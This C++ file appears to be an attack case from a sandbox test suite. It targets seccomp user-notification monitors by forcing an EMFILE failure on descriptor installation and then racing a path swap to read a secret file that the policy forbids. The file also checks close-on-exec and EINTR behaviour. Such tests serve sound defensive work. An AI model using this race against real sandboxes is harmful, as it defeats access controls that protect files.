// attack: addfd-semantics
// class: races
// severity: high
// models: naive
// trap: A monitor that opens on the program's behalf has to put the descriptor into the program's
//   table, and that can fail: the program is at its descriptor limit. The program builds such a
//   monitor, which then falls back to "continue"; meanwhile the limit is raised and the name
//   exchanged. Where it may not build one, it does the same to whoever judges it.
// naive: On any error of its own it lets the call go on; forgets O_CLOEXEC; installs the descriptor
//   first and answers later, so that a signal in between leaves it behind.
// kernel: ADDFD obeys the target's RLIMIT_NOFILE (EMFILE); without ADDFD_FLAG_SEND installing and
//   answering are two steps; close-on-exec is what newfd_flags says (seccomp_unotify(2)).
// sealed: Opens nothing for anyone: the program's own call makes the descriptor, with its own
//   limit, flags, lowest number and EINTR. A redirected call that fails has failed.
// source: seccomp_unotify(2); sandlock#80; rootless-containers/bypass4netns#21; kernel selftest
//   user_notification_addfd_rlimit
// time: 3000
// policy:
//   path allow read,execute /usr/**
//   path allow $T/
//   network deny all
// report: $S/key
#include <atomic>
#include <thread>

#include "tests/support/pass_descriptor.h"
#include "tests/support/user_notify.h"

namespace attack {
namespace {

void limit_descriptors(pid_t pid, rlim_t most) {
  rlimit64 limit{};
  must(::prlimit64(pid, RLIMIT_NOFILE, nullptr, &limit) == 0, "prlimit");
  limit.rlim_cur = most;
  must(::prlimit64(pid, RLIMIT_NOFILE, &limit, nullptr) == 0, "prlimit");
}

constexpr rlim_t kNone = 3;  // 0, 1 and 2 are taken
constexpr rlim_t kSome = 64;

// The monitor in miniature: opens what it has read, and hands it over.
void open_for(int listener, pid_t program, char* place) {
  const Notification call(listener);
  const std::string name = call.text(1);
  if (!name.starts_with(work(""))) return call.answer(-EACCES);
  const int mine = ::open(name.c_str(), O_RDONLY);
  const int theirs = call.install(mine);
  if (theirs >= 0) return call.answer(theirs);
  // The program's other thread is awake.
  limit_descriptors(program, kSome);
  std::strcpy(place, secret().c_str());
  call.let_run();
}

void against_own_monitor() {
  auto* place = static_cast<char*>(
      ::mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0));
  must(place != MAP_FAILED, "mmap");
  std::strcpy(place, work("ok.dat").c_str());
  int pair[2];
  must(::socketpair(AF_UNIX, SOCK_STREAM, 0, pair) == 0, "socketpair");
  const pid_t program = spawn([&] {
    const int listener = listen_to(SYS_openat);
    if (listener < 0 || !send_descriptor(pair[1], listener)) finish(kHeld);
    ::close(listener);
    limit_descriptors(0, kNone);
    take(static_cast<int>(::syscall(SYS_openat, AT_FDCWD, place, O_RDONLY)));
    finish(kHeld);
  });
  ::close(pair[1]);
  if (const int listener = receive_descriptor(pair[0]); listener >= 0) {
    open_for(listener, program, place);
  }
  if (reap(program) == 0) prey_taken("the fallback opened it");
}

// The same two moves, over and over, against the monitor that is there.
void against_whoever_judges() {
  static char place[4096];
  const std::string good = work("ok.dat");
  const std::string bad = secret();
  std::strcpy(place, good.c_str());
  std::atomic<bool> stop{false};
  std::thread other([&] {
    for (unsigned turn = 0; !stop; ++turn) {
      if (turn % 8192 == 0) limit_descriptors(0, turn % 16384 == 0 ? kSome : kNone);
      std::memcpy(place, bad.c_str(), bad.size() + 1);
      for (int i = 0; i < 50; ++i) asm volatile("");
      std::memcpy(place, good.c_str(), good.size() + 1);
      for (int i = 0; i < 50; ++i) asm volatile("");
    }
  });
  open_until_time_is_up(place);
  stop = true;
  other.join();
  limit_descriptors(0, kSome);
  take(secret());
}

}  // namespace

void strike() {
  if (way("a monitor of one's own")) against_own_monitor();
  if (way("whoever judges")) against_whoever_judges();
  held("at the limit");
}

// What a delegated open gets wrong.
void twin() {
  const std::string ok = work("ok.dat");
  const int plain = ::open(ok.c_str(), O_RDONLY);
  const int closing = ::open(ok.c_str(), O_RDONLY | O_CLOEXEC);
  must(plain >= 0 && closing == plain + 1, "the lowest free number");
  for (const int fd : {plain, closing}) {
    const pid_t child = spawn([&] {
      const std::string name = "/proc/self/fd/" + std::to_string(fd);
      ::execl("/usr/bin/test", "test", "-e", name.c_str(), nullptr);
    });
    must(reap(child) == (fd == plain ? 0 : 1), "O_CLOEXEC, and only that, closes at exec");
  }
  limit_descriptors(0, kNone);
  must(::open(ok.c_str(), O_RDONLY) == -1 && errno == EMFILE, "EMFILE at the limit");
  limit_descriptors(0, kSome);
  ::close(plain);
  must(::open(ok.c_str(), O_RDONLY) == plain, "the lowest free number again");
  // A blocked open that a signal ends leaves nothing behind. The timer repeats, because the first
  // signal may come too early.
  must(::mkfifo(work("fifo").c_str(), 0600) == 0, "mkfifo");
  struct sigaction action {};
  action.sa_handler = [](int) {};
  must(::sigaction(SIGALRM, &action, nullptr) == 0, "sigaction");
  ::ualarm(20000, 20000);
  must(::open(work("fifo").c_str(), O_RDONLY) == -1 && errno == EINTR, "EINTR");
  ::ualarm(0, 0);
  const int next = ::open(ok.c_str(), O_RDONLY);
  must(next == closing + 1, "the interrupted open took no number");
  twin_ok();
}

}  // namespace attack
